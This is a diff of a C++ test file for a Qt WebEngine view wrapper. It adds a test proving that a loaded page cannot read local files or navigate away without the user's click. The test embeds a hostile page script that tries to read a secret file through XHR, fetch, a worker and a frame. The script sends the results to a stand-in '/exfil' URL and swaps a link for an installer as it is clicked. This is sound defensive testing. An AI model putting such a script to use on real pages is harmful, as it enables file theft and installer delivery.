@@ -1,13 +1,21 @@
 // platform::WebView on the real engine: loading, scripts that always answer,
-// navigation, new windows, focus, and the death of the page's process.
+// navigation, new windows, local files, focus, and the death of the page's
+// process.
 #include "platform/web_view.h"
+#include "support/stand_in_opener.h"
 #include "web_test_support.h"
 
 #include <QApplication>
+#include <QImage>
+#include <QJsonDocument>
+#include <QJsonObject>
 #include <QLineEdit>
 #include <QMouseEvent>
+#include <QTemporaryDir>
 #include <QVBoxLayout>
 #include <QWebEnginePage>
+
+#include <algorithm>
 
 #include <gtest/gtest.h>
 
@@ -27,25 +35,29 @@ protected:
         window.show();
         view->setNavigationPolicy([this](const QUrl &url) {
             asked << url;
-            return false;
+            return platform::WebView::Navigation::Leave;
         });
-    }
-
-    // A click of the user's at a point of the page.
-    void click(QPointF at) {
-        QWidget *target = view->focusProxy() ? view->focusProxy() : view;
-        for (QEvent::Type type : {QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
-            QMouseEvent event(type, at, target->mapToGlobal(at), Qt::LeftButton,
-                              type == QEvent::MouseButtonPress ? Qt::LeftButton : Qt::NoButton, Qt::NoModifier);
-            QApplication::sendEvent(target, &event);
-        }
+        view->setLinkHandler([this](const QUrl &url) { left << url; });
     }
 
     QWidget window;
     QLineEdit *field = new QLineEdit;
     platform::WebView *view = new platform::WebView;
-    QList<QUrl> asked;
+    QList<QUrl> asked;  // what the policy was asked about
+    QList<QUrl> left;   // what reached the link handler
 };
+
+// A picture of 37 × 23 pixels.
+bool writePicture(const QString &path) {
+    QImage picture(37, 23, QImage::Format_RGB32);
+    picture.fill(Qt::red);
+    return picture.save(path, "PNG");
+}
+
+bool writeFile(const QString &path, const QByteArray &bytes) {
+    QFile file(path);
+    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
+}
 
 }  // namespace
 
@@ -129,7 +141,8 @@ TEST_F(WebViewTest, SurvivesTheDeathOfThePagesProcess) {
 }
 
 // Every way a page can ask to go elsewhere reaches the policy, which here
-// refuses: the page stays. Pages open no windows.
+// lets it leave: the page stays, and only what the user clicked reaches the
+// link handler. Pages open no windows.
 TEST_F(WebViewTest, PutsNavigationToThePolicyAndOpensNoWindows) {
     const QUrl base("file:///tmp/a.md");
     ASSERT_EQ(load(*view,
@@ -148,6 +161,9 @@ TEST_F(WebViewTest, PutsNavigationToThePolicyAndOpensNoWindows) {
     evaluate(*view, "location.href = 'https://example.org/'");
     ASSERT_TRUE(waitUntil([&] { return asked.size() == 3; }));
     EXPECT_EQ(asked.last(), QUrl("https://example.org/"));
+    // The page's scripts clicked and navigated: nothing left.
+    pause(300);
+    EXPECT_TRUE(left.isEmpty());
 
     // A link that asks for a new window is put to the policy as a link when
     // the user clicks it.
@@ -155,9 +171,11 @@ TEST_F(WebViewTest, PutsNavigationToThePolicyAndOpensNoWindows) {
                                              "[r.left + r.width / 2, r.top + r.height / 2]")
                                  .toList();
     ASSERT_EQ(box.size(), 2);
-    click(QPointF(box[0].toDouble(), box[1].toDouble()));
+    click(*view, QPointF(box[0].toDouble(), box[1].toDouble()));
     ASSERT_TRUE(waitUntil([&] { return asked.size() == 4; }));
     EXPECT_EQ(asked.last(), QUrl("https://example.com/new"));
+    ASSERT_TRUE(waitUntil([&] { return left.size() == 1; }));
+    EXPECT_EQ(left.first(), QUrl("https://example.com/new"));
     // A script cannot open one at all.
     EXPECT_EQ(evaluateText(*view, "String(window.open('https://example.net/'))"), "null");
     pause(300);
@@ -168,6 +186,106 @@ TEST_F(WebViewTest, PutsNavigationToThePolicyAndOpensNoWindows) {
     ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "window.scrollY").toDouble() > 1000; }));
     EXPECT_EQ(asked.size(), 4);
     EXPECT_EQ(evaluateText(*view, "document.body.firstElementChild.id"), "top");
+    EXPECT_EQ(left.size(), 1);
+}
+
+// A page cannot read a file of this machine, by script (XMLHttpRequest,
+// fetch, a worker) or through a frame, yet it shows the pictures and style
+// sheets beside it. Nothing a script does (setting location, clicking a
+// link, opening a window, sending a form, a refresh) reaches the desktop's
+// opener; a link the user clicks does, to a site or to a document beside the
+// page, and a script that swaps the link's address as it is clicked gets
+// nothing out.
+TEST_F(WebViewTest, APageReadsNoLocalFileAndLeavesOnlyByTheUsersClick) {
+    StandInOpener &opener = StandInOpener::install();
+    opener.clear();
+    view->setLinkHandler({});  // the user's applications, through the allowlist
+    QTemporaryDir root;
+    ASSERT_TRUE(QDir(root.path()).mkpath("doc") && QDir(root.path()).mkpath("home"));
+    const QString secret = root.filePath("home/secret.txt");
+    ASSERT_TRUE(writeFile(secret, "TOPSECRET-42\n"));
+    ASSERT_TRUE(writeFile(root.filePath("home/setup.msi"), QByteArray("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8)));
+    ASSERT_TRUE(writePicture(root.filePath("doc/pic.png")));
+    ASSERT_TRUE(writeFile(root.filePath("doc/look.css"), "p.q { color: rgb(1, 2, 3); }"));
+    ASSERT_TRUE(writeFile(root.filePath("doc/other notes.md"), "# Other\n"));
+    const QUrl base = QUrl::fromLocalFile(root.filePath("doc/doc.md"));
+    const QUrl secretUrl = QUrl::fromLocalFile(secret);
+    const QUrl other = QUrl::fromLocalFile(root.filePath("doc/other notes.md"));
+
+    QString page = R"html(<!DOCTYPE html><html><head><link rel="stylesheet" href="look.css"></head><body>
+<p class="q">styled</p><img id="pic" src="pic.png">
+<p><a id="site" href="https://example.com/clicked">site</a> <a id="scripted" href="https://example.com/scripted">x</a>
+<a id="local" href="other%20notes.md">other</a> <a id="swapped" href="https://example.com/shown">swapped</a></p>
+<form id="form" action="https://example.com/form"><input name="a" value="b"></form>
+<iframe id="frame" style="display:none" src="@SECRET@"></iframe><object data="@SECRET@"></object>
+<pre id="got"></pre>
+<script>
+var got = {};
+function show() { document.getElementById('got').textContent = JSON.stringify(got); }
+try { var x = new XMLHttpRequest(); x.open('GET', '@SECRET@', false); x.send(); got.xhr = x.responseText; }
+catch (e) { got.xhr = 'refused'; }
+fetch('@SECRET@').then(function (r) { return r.text(); }).then(function (t) { got.fetch = t; show(); },
+                                                            function () { got.fetch = 'refused'; show(); });
+var worker = new Worker(URL.createObjectURL(new Blob(["fetch('@SECRET@').then(function (r) { return r.text(); })" +
+  ".then(postMessage, function () { postMessage('refused'); });"])));
+worker.onmessage = function (m) { got.worker = m.data; show(); };
+document.getElementById('swapped').addEventListener('mousedown', function () { this.href = '@MSI@'; });
+var steps = [
+  function () {
+    var frame = document.getElementById('frame');
+    try { got.frame = frame.contentDocument ? frame.contentDocument.documentElement.textContent : 'unreadable'; }
+    catch (e) { got.frame = 'unreadable'; }
+    show();
+    top.location = 'https://example.com/exfil?d=' + encodeURIComponent(JSON.stringify(got));
+  },
+  function () { document.getElementById('scripted').click(); },
+  function () { window.open('https://example.com/window'); },
+  function () { location.href = '@OTHER@'; },
+  function () { location.href = '@MSI@'; },
+  function () { document.getElementById('form').submit(); },
+  function () { var m = document.createElement('meta'); m.httpEquiv = 'refresh';
+                m.content = '0;url=https://example.com/refresh'; document.head.appendChild(m); }
+];
+steps.forEach(function (step, i) { setTimeout(step, 1000 + 250 * i); });
+</script></body></html>)html";
+    page.replace("@SECRET@", secretUrl.toString(QUrl::FullyEncoded))
+        .replace("@OTHER@", other.toString(QUrl::FullyEncoded))
+        .replace("@MSI@", QUrl::fromLocalFile(root.filePath("home/setup.msi")).toString(QUrl::FullyEncoded));
+    ASSERT_EQ(load(*view, page, base), true);
+
+    // Every way out was tried and put to the policy, which let it leave.
+    ASSERT_TRUE(waitUntil([&] { return asked.contains(QUrl("https://example.com/refresh")); }));
+    EXPECT_TRUE(asked.contains(QUrl("https://example.com/scripted")));
+    EXPECT_TRUE(asked.contains(other));
+    EXPECT_TRUE(asked.contains(QUrl("https://example.com/form?a=b")));
+    EXPECT_TRUE(std::any_of(asked.begin(), asked.end(), [](const QUrl &url) { return url.path() == "/exfil"; }));
+    pause(2500);
+    // Nothing was read, and nothing went out.
+    const QJsonObject got = QJsonDocument::fromJson(evaluateText(*view, "document.getElementById('got').textContent").toUtf8()).object();
+    EXPECT_EQ(got.value("xhr").toString(), "refused");
+    EXPECT_EQ(got.value("fetch").toString(), "refused");
+    EXPECT_EQ(got.value("worker").toString(), "refused");
+    EXPECT_FALSE(got.value("frame").toString().contains("TOPSECRET"));
+    EXPECT_FALSE(evaluateText(*view, "document.documentElement.outerHTML").contains("TOPSECRET"));
+    EXPECT_EQ(opener.calls(), QStringList());
+    EXPECT_EQ(evaluateText(*view, "document.location.href"), base.toString(QUrl::FullyEncoded));  // still the page
+    // What the page shows from beside it still shows.
+    EXPECT_EQ(evaluateText(*view, "var p = document.getElementById('pic'); p.naturalWidth + 'x' + p.naturalHeight"),
+              "37x23");
+    EXPECT_EQ(evaluateText(*view, "getComputedStyle(document.querySelector('p.q')).color"), "rgb(1, 2, 3)");
+
+    // The user's clicks: a site, a document beside the page; a link whose
+    // address the page swaps for an installer as it is clicked gets nothing.
+    ASSERT_TRUE(clickElement(*view, "#site"));
+    ASSERT_TRUE(waitUntil([&] { return opener.calls().size() == 1; }));
+    EXPECT_EQ(opener.calls().last(), "https://example.com/clicked");
+    ASSERT_TRUE(clickElement(*view, "#local"));
+    ASSERT_TRUE(waitUntil([&] { return opener.calls().size() == 2; }));
+    EXPECT_EQ(opener.calls().last(), QString::fromUtf8(other.toEncoded()));
+    ASSERT_TRUE(clickElement(*view, "#swapped"));
+    ASSERT_TRUE(waitUntil([&] { return asked.last().path().endsWith("setup.msi"); }));
+    pause(1000);
+    EXPECT_EQ(opener.calls().size(), 2);
 }
 
 // Keyboard focus given to the page goes on to the focus target.
